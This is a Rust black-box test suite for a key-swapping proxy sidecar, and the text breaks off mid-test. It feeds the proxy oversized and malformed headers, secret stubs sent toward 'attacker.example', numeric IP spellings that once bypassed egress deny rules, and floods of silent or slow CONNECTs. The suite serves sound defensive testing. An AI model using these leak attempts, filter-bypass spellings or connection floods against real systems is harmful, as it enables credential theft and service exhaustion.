//! Issue 3's bad-input matrix, black box: oversized headers, invalid UTF-8 in header values, a stub split
//! across obs-fold continuation lines, truncated TLS records inside a CONNECT tunnel, a client that stops
//! reading mid-download (the upstream must be released), and thousands of CONNECTs that never send a
//! ClientHello (closed after the handshake timeout; descriptors and memory return to baseline).

use crate::support;

use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use support::ops::{eventually, open_fds, vm_rss_kib, Scripted};
use support::*;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Sends raw request bytes over a fresh intercepted HTTP/1.1 tunnel to `host` and reads one response.
/// `Err` when the sidecar closed the connection without an answer.
async fn raw_in_tunnel(sidecar: &Sidecar, host: &str, request: &[u8]) -> std::io::Result<RawResponse> {
    let tls = tunnel_tls(sidecar, host, &["http/1.1"]).await;
    let (rd, mut wr) = tokio::io::split(tls);
    // The sidecar may answer (and close) before it has read everything: write while reading, ignore
    // write errors.
    let request = request.to_vec();
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(&request).await;
        let _ = wr.flush().await;
        wr
    });
    let mut r = tokio::io::BufReader::new(rd);
    let resp = within(
        Duration::from_secs(30),
        "response in the tunnel",
        read_response(&mut r, false),
    )
    .await;
    writer.abort();
    resp
}

/// The same on the proxy port itself (CONNECT or absolute-form heads).
async fn raw_on_proxy(sidecar: &Sidecar, request: &[u8]) -> std::io::Result<RawResponse> {
    let s = tokio::net::TcpStream::connect(sidecar.proxy).await.expect("connect");
    let (rd, mut wr) = s.into_split();
    let request = request.to_vec();
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(&request).await;
        wr
    });
    let mut r = tokio::io::BufReader::new(rd);
    let resp = within(
        Duration::from_secs(30),
        "answer on the proxy port",
        read_response(&mut r, false),
    )
    .await;
    writer.abort();
    resp
}

/// 431/400 expected; a 1 MiB head may instead be cut by a TCP reset (the sidecar closes with the rest
/// of the head unread, and the kernel's RST can destroy the answer in flight).
fn assert_refused(size: usize, what: &str, r: std::io::Result<RawResponse>) {
    match r {
        Ok(r) => assert!(r.status == 431 || r.status == 400, "{size} B header {what}: {}", r.head),
        Err(e) if size > 512 * 1024 && e.kind() == std::io::ErrorKind::ConnectionReset => {}
        Err(e) => panic!("{size} B header {what}: closed without 431/400 ({e})"),
    }
}

/// The sidecar still serves a normal swapped request and its health endpoint.
async fn still_serving(h: &Harness, tag: &str) {
    let out = h
        .sidecar
        .curl()
        .args([
            "-H",
            &format!("x-api-key: {ANTHROPIC_STUB}"),
            "-H",
            &format!("x-tag: {tag}"),
        ])
        .arg("https://api.anthropic.com/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{tag}: {}", out.body_text());
    let rec = h
        .upstream
        .requests()
        .into_iter()
        .find(|r| r.header("x-tag") == Some(tag))
        .expect("the follow-up request reached the upstream");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
    assert_eq!(h.sidecar.admin_get("/healthz").await.status, 200);
}

// ---------------------------------------------------------------- oversized headers

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_headers_are_refused_and_others_still_served() {
    let h = Harness::default_setup().await;
    for size in [200 * 1024, 1024 * 1024] {
        let big = "a".repeat(size);
        // Inside an intercepted tunnel.
        let req = format!("GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Big: {big}\r\n\r\n");
        assert_refused(
            size,
            "in a tunnel",
            raw_in_tunnel(&h.sidecar, "api.anthropic.com", req.as_bytes()).await,
        );
        // On the proxy port: CONNECT and absolute-form.
        let connect =
            format!("CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\nX-Big: {big}\r\n\r\n");
        assert_refused(size, "on CONNECT", raw_on_proxy(&h.sidecar, connect.as_bytes()).await);
        let plain =
            format!("GET http://api.anthropic.com/echo HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Big: {big}\r\n\r\n");
        assert_refused(size, "absolute-form", raw_on_proxy(&h.sidecar, plain.as_bytes()).await);
    }
    assert!(
        h.upstream.requests().iter().all(|r| r.header("x-big").is_none()),
        "an oversized header reached the upstream"
    );
    still_serving(&h, "after-oversized").await;
    h.assert_logs_clean();
}

// ---------------------------------------------------------------- invalid UTF-8

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_utf8_header_values_are_forwarded_or_refused_never_a_crash() {
    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
    let mut req =
        b"GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Tag: utf8-plain\r\nX-Bin: caf\xe9 \xff\xfe\x80 end\r\n"
            .to_vec();
    req.extend_from_slice(b"x-api-key: \xff\xfe");
    req.extend_from_slice(ANTHROPIC_STUB.as_bytes());
    req.extend_from_slice(b"\xc3\x28\r\n\r\n");
    let r = raw_in_tunnel(&h.sidecar, "api.anthropic.com", &req)
        .await
        .expect("an answer, not a dropped connection");
    assert!(r.status == 200 || r.status == 400, "{}", r.head);
    if r.status == 200 {
        let rec = h.upstream.only_request_to("/echo");
        let key = rec.header("x-api-key").expect("x-api-key forwarded");
        assert!(
            key.contains(ANTHROPIC_REAL),
            "stub next to invalid bytes swapped: {key:?}"
        );
        assert!(!key.contains(ANTHROPIC_STUB), "{key:?}");
        assert!(
            rec.header("x-bin").is_some_and(|v| v.contains("caf")),
            "{:?}",
            rec.headers
        );
    }
    // Toward a host the secret is not bound to: refused (tripwire) or 400, never forwarded.
    let mut req = b"GET /leak HTTP/1.1\r\nHost: attacker.example\r\nX-Bin: \xff".to_vec();
    req.extend_from_slice(ANTHROPIC_STUB.as_bytes());
    req.extend_from_slice(b"\xfe\r\n\r\n");
    let r = raw_in_tunnel(&h.sidecar, "attacker.example", &req)
        .await
        .expect("an answer, not a dropped connection");
    assert!(r.status == 403 || r.status == 400, "{}", r.head);
    assert!(h.upstream.requests_to("/leak").is_empty(), "reached attacker.example");
    // Invalid UTF-8 in the request target and in the Host header of a CONNECT.
    let mut s = tokio::net::TcpStream::connect(h.sidecar.proxy).await.expect("connect");
    s.write_all(b"CONNECT api.anthr\xffopic.com:443 HTTP/1.1\r\nHost: \xfe\r\n\r\n")
        .await
        .expect("write");
    let mut buf = Vec::new();
    let _ = within(Duration::from_secs(15), "bad CONNECT closes", s.read_to_end(&mut buf)).await;
    let text = String::from_utf8_lossy(&buf);
    assert!(
        buf.is_empty() || text.starts_with("HTTP/1.1 400") || text.starts_with("HTTP/1.0 400"),
        "{text:?}"
    );
    still_serving(&h, "after-utf8").await;
    h.assert_logs_clean();
}

// ---------------------------------------------------------------- obs-fold

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stub_split_across_obs_fold_never_leaks() {
    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
    let (a, b) = ANTHROPIC_STUB.split_at(ANTHROPIC_STUB.len() / 2);
    let variants = [
        format!("X-Note: {a}\r\n {b}\r\n"),
        format!("X-Note: {a}\r\n\t{b}\r\n"),
        format!("X-Note: start\r\n {ANTHROPIC_STUB}\r\n"),
        format!("x-api-key: {a}\r\n  {b}\r\n"),
    ];
    for (i, fold) in variants.iter().enumerate() {
        // Toward an unbound host: 400 (obs-fold rejected) or 403 (tripwire), never forwarded.
        let path = format!("/fold-attacker-{i}");
        let req = format!("GET {path} HTTP/1.1\r\nHost: attacker.example\r\n{fold}\r\n");
        let r = raw_in_tunnel(&h.sidecar, "attacker.example", req.as_bytes()).await;
        if let Ok(r) = &r {
            assert!(
                r.status == 400 || r.status == 403,
                "variant {i} to attacker: {}",
                r.head
            );
        }
        assert!(
            h.upstream.requests_to(&path).is_empty(),
            "variant {i} reached attacker.example"
        );
        // Toward the bound host: 400, or swapped (the upstream never sees the stub or its halves).
        let path = format!("/fold-bound-{i}");
        let req = format!("GET {path} HTTP/1.1\r\nHost: api.anthropic.com\r\n{fold}\r\n");
        let r = raw_in_tunnel(&h.sidecar, "api.anthropic.com", req.as_bytes()).await;
        if let Ok(r) = &r {
            assert!(
                r.status == 400 || r.status == 200,
                "variant {i} to bound host: {}",
                r.head
            );
        }
        for rec in h.upstream.requests_to(&path) {
            assert!(
                !rec.contains(ANTHROPIC_STUB),
                "variant {i}: stub reached the upstream: {rec:?}"
            );
            assert!(
                !rec.headers.iter().any(|(_, v)| v.contains(a) && v.contains(b)),
                "variant {i}: an unswapped folded stub reached the upstream: {rec:?}"
            );
        }
    }
    assert!(!h.upstream.saw(ANTHROPIC_STUB));
    assert!(
        h.upstream
            .requests()
            .iter()
            .filter(|r| r.path.starts_with("/fold-attacker"))
            .all(|r| !r.contains(ANTHROPIC_REAL)),
        "a real value reached attacker.example"
    );
    still_serving(&h, "after-fold").await;
    h.assert_logs_clean();
}

// ---------------------------------------------------------------- truncated TLS records

async fn closed_within(stream: &mut tokio::net::TcpStream, limit: Duration, what: &str) {
    let mut buf = Vec::new();
    let r = within(limit, what, stream.read_to_end(&mut buf)).await;
    // EOF (Ok) or a reset (Err) both mean closed; an alert may precede it.
    let _ = r;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn truncated_tls_records_close_only_that_tunnel() {
    let h = Harness::default_setup().await;
    let kept = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let mut kept = tokio::io::BufReader::new(kept);

    // 1. A ClientHello record cut short, then EOF.
    let truncated_hello: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x11\x22\x33\x44\x55\x66\x77\x88";
    let (s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
    assert_eq!(reply.status, 200);
    let mut s = s.into_inner();
    s.write_all(truncated_hello).await.expect("write");
    s.shutdown().await.expect("shutdown");
    closed_within(&mut s, Duration::from_secs(15), "truncated hello + EOF closes").await;

    // 2. A ClientHello record cut short, connection left open: closed by the handshake timeout.
    let (s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
    assert_eq!(reply.status, 200);
    let mut s = s.into_inner();
    s.write_all(truncated_hello).await.expect("write");
    let t0 = Instant::now();
    closed_within(&mut s, Duration::from_secs(30), "stalled truncated hello closes").await;
    assert!(
        t0.elapsed() < Duration::from_secs(25),
        "closed after {:?}",
        t0.elapsed()
    );

    // 3. After a completed handshake: an application-data record header announcing 16 KiB, 40 bytes of
    //    it, then EOF.
    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let (io, _) = tls.into_inner();
    let mut s = io.into_inner();
    let mut rec = b"\x17\x03\x03\x40\x00".to_vec();
    rec.extend_from_slice(&[0x5a; 40]);
    s.write_all(&rec).await.expect("write record");
    s.shutdown().await.expect("shutdown");
    closed_within(&mut s, Duration::from_secs(15), "truncated app-data record closes").await;

    // 4. Same, connection left open but a second record header is garbage (bad length).
    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let (io, _) = tls.into_inner();
    let mut s = io.into_inner();
    s.write_all(b"\x17\x03\x03\xff\xff\x00\x00").await.expect("write");
    closed_within(&mut s, Duration::from_secs(15), "oversized record length closes").await;

    // The tunnel opened before all this still works, and so does a fresh client.
    kept.get_mut()
        .write_all(b"GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\nX-Tag: kept\r\n\r\n")
        .await
        .expect("write");
    let resp = within(Duration::from_secs(20), "kept tunnel", read_response(&mut kept, false))
        .await
        .expect("response on the kept tunnel");
    assert_eq!(resp.status, 200);
    still_serving(&h, "after-truncated").await;
}

// ---------------------------------------------------------------- client stops reading

/// Polls until the upstream's `/endless` counter stops growing (backpressure reached it).
async fn until_stalled(up: &Scripted) -> u64 {
    let mut last = u64::MAX;
    eventually(
        Duration::from_secs(60),
        "upstream sending stalls under backpressure",
        || {
            let now = up.state.endless_sent.load(Ordering::SeqCst);
            let stalled = now == last;
            last = now;
            async move {
                if !stalled {
                    // Backpressure is judged over a 500 ms window.
                    tokio::time::sleep(Duration::from_millis(450)).await;
                }
                stalled.then_some(now)
            }
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_that_stops_reading_http1_releases_the_upstream() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    let mut tls = tunnel_tls(&sidecar, "api.anthropic.com", &["http/1.1"]).await;
    tls.write_all(b"GET /endless HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
        .await
        .expect("write");
    let mut got = 0u64;
    let mut buf = vec![0u8; 64 * 1024];
    within(Duration::from_secs(30), "first MiB of the download", async {
        while got < 1 << 20 {
            let n = tls.read(&mut buf).await.expect("read");
            assert!(n > 0, "download ended early");
            got += n as u64;
        }
    })
    .await;
    // Stop reading, stay connected: the upstream is held back, memory stays bounded.
    let sent = until_stalled(&up).await;
    assert!(
        sent - got < 64 << 20,
        "the sidecar buffered {} MiB for a client that stopped reading",
        (sent - got) >> 20
    );
    assert!(
        !up.state.endless_dropped.load(Ordering::SeqCst),
        "released while the client is still there"
    );
    let rss = vm_rss_kib(sidecar.pid());
    assert!(rss < 200 * 1024, "sidecar RSS {rss} KiB while a client stalls");
    // The client goes away: the upstream stream is cancelled within a deadline.
    drop(tls);
    eventually(
        Duration::from_secs(20),
        "upstream stream released after the client left",
        || {
            let dropped = up.state.endless_dropped.load(Ordering::SeqCst);
            async move { dropped.then_some(()) }
        },
    )
    .await;
    sidecar.assert_logs_clean();
}

/// A client that goes away while its request waits for the upstream's head cancels that upstream
/// request (HTTP/1.1 inside a tunnel: the connection closes; h2: the stream is reset), instead of
/// holding it open until the response timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_goes_away_cancels_its_waiting_upstream_request() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    let open = || up.state.silent_open.load(Ordering::SeqCst);
    for alpn in ["http/1.1", "h2"] {
        let tls = tunnel_tls(&sidecar, "api.anthropic.com", &[alpn]).await;
        let (mut sender, conn_task) = if alpn == "h2" {
            let (sender, conn) = hyper::client::conn::http2::handshake(
                hyper_util::rt::TokioExecutor::new(),
                hyper_util::rt::TokioIo::new(tls),
            )
            .await
            .expect("h2 handshake");
            (Either::H2(sender), tokio::spawn(async move { drop(conn.await) }))
        } else {
            let (sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
                .await
                .expect("h1 handshake");
            (Either::H1(sender), tokio::spawn(async move { drop(conn.await) }))
        };
        let req = hyper::Request::builder()
            .uri("https://api.anthropic.com/silent")
            .header("host", "api.anthropic.com")
            .body(http_body_util::Empty::<bytes::Bytes>::new())
            .expect("request");
        let pending = match &mut sender {
            Either::H1(s) => tokio::spawn(s.send_request(req)),
            Either::H2(s) => tokio::spawn(s.send_request(req)),
        };
        eventually(Duration::from_secs(20), "the upstream holds the request", || {
            let n = open();
            async move { (n == 1).then_some(()) }
        })
        .await;
        // The client goes away: request, sender and connection dropped (TCP closed).
        pending.abort();
        drop(sender);
        conn_task.abort();
        eventually(
            Duration::from_secs(20),
            &format!("{alpn}: the upstream request is cancelled"),
            || {
                let n = open();
                async move { (n == 0).then_some(()) }
            },
        )
        .await;
    }
    sidecar.assert_logs_clean();
}

enum Either {
    H1(hyper::client::conn::http1::SendRequest<http_body_util::Empty<bytes::Bytes>>),
    H2(hyper::client::conn::http2::SendRequest<http_body_util::Empty<bytes::Bytes>>),
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_that_cancels_an_h2_stream_releases_the_upstream() {
    use http_body_util::BodyExt as _;
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    let tls = tunnel_tls(&sidecar, "api.anthropic.com", &["h2"]).await;
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .expect("h2 handshake");
    let conn_task = tokio::spawn(conn);
    let req = hyper::Request::builder()
        .uri("https://api.anthropic.com/endless")
        .body(http_body_util::Empty::<bytes::Bytes>::new())
        .expect("request");
    let resp = within(Duration::from_secs(30), "h2 response head", sender.send_request(req))
        .await
        .expect("h2 response");
    assert_eq!(resp.status(), 200);
    let mut body = resp.into_body();
    let mut got = 0u64;
    within(Duration::from_secs(30), "first MiB over h2", async {
        while got < 1 << 20 {
            let f = body.frame().await.expect("frame").expect("frame ok");
            if let Ok(d) = f.into_data() {
                got += d.len() as u64;
            }
        }
    })
    .await;
    // Stop reading: flow control stalls the upstream.
    let sent = until_stalled(&up).await;
    assert!(
        sent - got < 64 << 20,
        "{} MiB buffered for a stalled h2 stream",
        (sent - got) >> 20
    );
    // Cancel only the stream (RST_STREAM); the connection stays up.
    drop(body);
    eventually(
        Duration::from_secs(20),
        "upstream stream released after RST_STREAM",
        || {
            let dropped = up.state.endless_dropped.load(Ordering::SeqCst);
            async move { dropped.then_some(()) }
        },
    )
    .await;
    // The same h2 connection still serves requests.
    let req = hyper::Request::builder()
        .uri("https://api.anthropic.com/after")
        .body(http_body_util::Empty::<bytes::Bytes>::new())
        .expect("request");
    let resp = within(
        Duration::from_secs(30),
        "request after cancel",
        sender.send_request(req),
    )
    .await
    .expect("response after cancel");
    assert_eq!(resp.status(), 200);
    conn_task.abort();
}

// ---------------------------------------------------------------- CONNECTs that never send a ClientHello

/// Raises this process's soft RLIMIT_NOFILE to its hard limit (the sidecar inherits it) and returns it.
async fn raise_nofile() -> u64 {
    let pid = std::process::id().to_string();
    let _ = run_prog("prlimit", &["--pid", &pid, "--nofile=1048576:1048576"], &[], None).await;
    let limits = std::fs::read_to_string("/proc/self/limits").expect("limits");
    let line = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .expect("Max open files");
    let hard: String = line.split_whitespace().nth(4).unwrap_or("1024").to_string();
    let soft_now: u64 = line
        .split_whitespace()
        .nth(3)
        .and_then(|v| v.parse().ok())
        .unwrap_or(1024);
    if let Ok(h) = hard.parse::<u64>() {
        if h > soft_now {
            let _ = run_prog("prlimit", &["--pid", &pid, &format!("--nofile={h}:{h}")], &[], None).await;
        }
    }
    let limits = std::fs::read_to_string("/proc/self/limits").expect("limits");
    limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .and_then(|l| l.split_whitespace().nth(3))
        .and_then(|v| v.parse().ok())
        .unwrap_or(1024)
}

/// RSS figures of one sidecar across floods of silent CONNECTs.
struct FloodReport {
    rss0: u64,
    peak: u64,
    /// RSS once every connection of round i was closed and the descriptors were back.
    after: Vec<u64>,
}

/// Starts a sidecar and floods it `rounds` times with `n` CONNECTs (10k, or 1000 where the descriptor
/// limit is too low) to an intercepted host that never send a ClientHello. Asserts each is closed by the
/// 10 s handshake timeout (not before), the sidecar keeps serving meanwhile, and its descriptors return.
async fn silent_connect_floods(rounds: usize) -> (Harness, FloodReport) {
    let limit = raise_nofile().await;
    // The test holds one socket per connection, the sidecar one more each: 10k where the limit allows.
    let n: usize = if limit >= 12_000 { 10_000 } else { 1_000 };
    eprintln!("RLIMIT_NOFILE {limit}: {n} silent CONNECTs per round");
    let h = Harness::default_setup().await;
    let pid = h.sidecar.pid();
    still_serving(&h, "warm-up").await; // leaf minted, pools warm
    let rss0 = vm_rss_kib(pid);
    let fds0 = open_fds(pid);
    let proxy = h.sidecar.proxy;
    let mut peak = rss0;
    let mut after = Vec::new();
    for round in 1..=rounds {
        let opened = Instant::now();
        let tasks = silent_connects(proxy, n);
        eventually(Duration::from_secs(60), "all CONNECTs accepted", || {
            let fds = open_fds(pid);
            async move { (fds >= fds0 + n * 9 / 10).then_some(()) }
        })
        .await;
        peak = peak.max(vm_rss_kib(pid));
        // While they hang, the sidecar still serves.
        still_serving(&h, &format!("during-silent-connects-{round}")).await;
        let waits = within(
            Duration::from_secs(120),
            "every silent CONNECT closed",
            tasks.join_all(),
        )
        .await;
        let min = waits.iter().min().copied().unwrap_or_default();
        let max = waits.iter().max().copied().unwrap_or_default();
        eprintln!(
            "round {round}: closed {min:?}..{max:?} after the reply, {:?} in all",
            opened.elapsed()
        );
        assert!(
            min >= Duration::from_secs(9),
            "closed before the 10 s handshake timeout: {min:?}"
        );
        assert!(
            max <= Duration::from_secs(40),
            "held open well past the 10 s timeout: {max:?}"
        );
        eventually(Duration::from_secs(30), "sidecar descriptors back to baseline", || {
            let fds = open_fds(pid);
            async move { (fds <= fds0 + 16).then_some(()) }
        })
        .await;
        after.push(vm_rss_kib(pid));
    }
    eprintln!("RSS baseline {rss0} KiB, peak {peak} KiB, after each round {after:?}");
    still_serving(&h, "after-silent-connects").await;
    (h, FloodReport { rss0, peak, after })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_connects_are_closed_after_the_handshake_timeout_without_leaking() {
    let (h, r) = silent_connect_floods(2).await;
    // Bounded while they hang (~10k pending handshakes)...
    assert!(
        r.peak <= r.rss0 + 256 * 1024,
        "peak RSS {} KiB vs baseline {} KiB",
        r.peak,
        r.rss0
    );
    // ...and no leak: a second identical flood does not add to what the first one left. jemalloc
    // hands freed pages back on its background threads' schedule, so the level is awaited (a leak
    // never comes down).
    let pid = h.sidecar.pid();
    let bound = r.after[0] + 16 * 1024;
    eventually(
        Duration::from_secs(30),
        &format!(
            "RSS within 16 MiB of what the first flood left ({:?} KiB after each, baseline {} KiB)",
            r.after, r.rss0
        ),
        || {
            let ok = vm_rss_kib(pid) <= bound;
            async move { ok.then_some(()) }
        },
    )
    .await;
}

/// The stricter wording: memory *returns* to baseline after the flood (jemalloc's background
/// purging hands freed pages back; glibc kept ~115 MiB resident).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_connects_memory_returns_to_baseline() {
    let (h, r) = silent_connect_floods(1).await;
    let pid = h.sidecar.pid();
    let bound = r.rss0 + 64 * 1024;
    eventually(
        Duration::from_secs(30),
        "sidecar RSS back within 64 MiB of baseline",
        || {
            let ok = vm_rss_kib(pid) <= bound;
            async move { ok.then_some(()) }
        },
    )
    .await;
}

/// Opens `n` CONNECTs to an intercepted host (at most 256 handshakes in flight), checks each `200`, never
/// sends a ClientHello, and resolves each to the time from the reply until the sidecar closed it.
fn silent_connects(proxy: std::net::SocketAddr, n: usize) -> tokio::task::JoinSet<Duration> {
    let mut tasks = tokio::task::JoinSet::new();
    let sem = std::sync::Arc::new(tokio::sync::Semaphore::new(256));
    for _ in 0..n {
        let sem = sem.clone();
        tasks.spawn(async move {
            let mut s = {
                let _permit = sem.acquire().await.expect("semaphore");
                let mut s = tokio::net::TcpStream::connect(proxy).await.expect("connect");
                s.write_all(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n")
                    .await
                    .expect("write CONNECT");
                let mut r = tokio::io::BufReader::with_capacity(1, s);
                let head = read_head(&mut r).await.expect("CONNECT reply");
                assert!(head.starts_with("HTTP/1.1 200"), "{head:?}");
                r.into_inner()
            };
            let replied = Instant::now();
            let mut buf = [0u8; 256];
            loop {
                match s.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => {}
                }
            }
            replied.elapsed()
        });
    }
    tasks
}

// ---------------------------------------------------------------- numeric host spellings

/// Found by the connect_target fuzzer: `1.2.3.4.` (trailing dot) was a *name*, so IP and CIDR rules
/// (egress deny, secret bindings, the own-port loop check) did not apply, yet the resolver dials the IP.
/// The same holds for the other spellings the system resolver reads as IPv4 (inet_aton: `127.1`,
/// `2130706433`, `0x7f.0.0.1`, `0177.0.0.1`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn numeric_host_spellings_do_not_bypass_ip_egress_rules() {
    let h = Harness::start(Alpn::Both, |c| c.egress_deny = vec!["127.0.0.0/8".into()]).await;
    let port = h.upstream.tls_addr.port();
    for host in [
        "127.0.0.1.",
        "127.1",
        "2130706433",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "0x7f000001",
        "127.0.0.1..",
    ] {
        let target = format!("{host}:{port}");
        let (_s, reply) = connect_raw(h.sidecar.proxy, &target).await;
        assert!(
            reply.status == 403 || reply.status == 400,
            "CONNECT {target} must not get through a 127.0.0.0/8 deny: {}",
            reply.head
        );
        if reply.status == 403 {
            assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"), "{target}");
        }
    }
    // The loop check too: the sidecar's own proxy port spelled with a trailing dot.
    let own = format!("127.0.0.1.:{}", h.sidecar.proxy.port());
    let (_s, reply) = connect_raw(h.sidecar.proxy, &own).await;
    assert!(reply.status >= 400, "CONNECT {own}: {}", reply.head);
    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
}

/// W12: 50 connections sending a CONNECT head one byte every 5 s are each closed within the head
/// timeout (10 s), and the proxy keeps serving meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w12_slow_connect_heads_are_closed_within_the_head_timeout() {
    let h = Harness::default_setup().await;
    let head = b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n";
    let mut set = tokio::task::JoinSet::new();
    for _ in 0..50 {
        let proxy = h.sidecar.proxy;
        set.spawn(async move {
            let start = Instant::now();
            let mut s = tokio::net::TcpStream::connect(proxy).await.expect("connect");
            for b in head {
                if s.write_all(&[*b]).await.is_err() {
                    break;
                }
                // Closed by the sidecar: a read returns at once (EOF or a 408).
                let mut buf = [0u8; 512];
                match tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await {
                    Ok(_) => break,
                    Err(_) => continue,
                }
            }
            start.elapsed()
        });
    }
    still_serving(&h, "while 50 slow heads trickle in").await;
    while let Some(took) = set.join_next().await {
        let took = took.expect("task");
        assert!(
            took < Duration::from_secs(16),
            "a slow CONNECT head stayed open {took:?} (head timeout 10 s, one byte per 5 s)"
        );
    }
}

// ---------------------------------------------------------------- W11: the body buffer budget

/// A request body of one data frame that then never ends; counts the bodies polled past their
/// frame (hyper polls again once the frame went out under h2 flow control).
struct Unfinished {
    data: Option<bytes::Bytes>,
    past_frame: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    counted: bool,
}

impl http_body::Body for Unfinished {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<bytes::Bytes>, Self::Error>>> {
        if let Some(data) = self.data.take() {
            return std::task::Poll::Ready(Some(Ok(http_body::Frame::data(data))));
        }
        if !self.counted {
            self.counted = true;
            self.past_frame.fetch_add(1, Ordering::SeqCst);
        }
        std::task::Poll::Pending
    }
}

/// W11: one h2 connection opens 150 streams toward a host whose body is a credential surface, each
/// declaring `content-length: 1000000` and sending 990,000 bytes of it, never the rest. Bodies
/// rewritten whole share one process-wide budget (64 MiB), and past it a body streams instead: the
/// sidecar grows by less than 128 MiB (the budget plus its TLS and h2 buffers; 182 MiB without a
/// budget, measured), and other clients, a body swap among them, are
/// served meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w11_unfinished_h2_bodies_stay_within_the_buffer_budget() {
    const STREAMS: usize = 150;
    const SENT: usize = 990_000;
    let h = Harness::default_setup().await;
    still_serving(&h, "before").await;
    let pid = h.sidecar.pid();
    let rss0 = vm_rss_kib(pid);

    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["h2"]).await;
    let (sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .expect("h2 handshake");
    let conn_task = tokio::spawn(conn);
    let past_frame = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let mut streams = Vec::new();
    for i in 0..STREAMS {
        let mut body = format!("{{\"key\":\"{BODY_STUB}\",\"pad\":\"").into_bytes();
        body.resize(SENT, b'a' + (i % 26) as u8);
        let req = hyper::Request::builder()
            .method("POST")
            .uri("https://api.anthropic.com/upload")
            .header("content-length", "1000000")
            .header("content-type", "application/json")
            .body(Unfinished {
                data: Some(body.into()),
                past_frame: past_frame.clone(),
                counted: false,
            })
            .expect("request");
        let mut sender = sender.clone();
        streams.push(tokio::spawn(async move { sender.send_request(req).await }));
    }
    // Every stream's 990,000 bytes went out: the sidecar read them all (buffered or streamed).
    let mut peak = rss0;
    eventually(Duration::from_secs(120), "every stream's bytes sent", || {
        peak = peak.max(vm_rss_kib(pid));
        let n = past_frame.load(Ordering::SeqCst);
        async move { (n == STREAMS).then_some(()) }
    })
    .await;
    for _ in 0..10 {
        peak = peak.max(vm_rss_kib(pid));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let grown_mib = peak.saturating_sub(rss0) / 1024;
    eprintln!(
        "RSS {rss0} KiB before, peak {peak} KiB: grew {grown_mib} MiB for {} MB sent",
        STREAMS * SENT / 1_000_000
    );
    assert!(
        grown_mib < 128,
        "the sidecar grew {grown_mib} MiB for {STREAMS} unfinished 1 MB bodies (budget 64 MiB)"
    );

    // Others are served meanwhile, a body rewrite among them (streamed: the budget is spent).
    still_serving(&h, "during").await;
    let small = format!("{{\"key\":\"{BODY_STUB}\"}}");
    let out = h
        .sidecar
        .curl()
        .args([
            "-H",
            "content-type: application/json",
            "-H",
            "x-tag: small-body",
            "--data-binary",
            &small,
        ])
        .arg("https://api.anthropic.com/upload")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    let rec = h
        .upstream
        .requests()
        .into_iter()
        .find(|r| r.header("x-tag") == Some("small-body"))
        .expect("the small upload reached the upstream");
    assert_eq!(
        rec.body_sha256,
        Some(sha256_hex(small.replace(BODY_STUB, BODY_REAL).as_bytes()))
    );
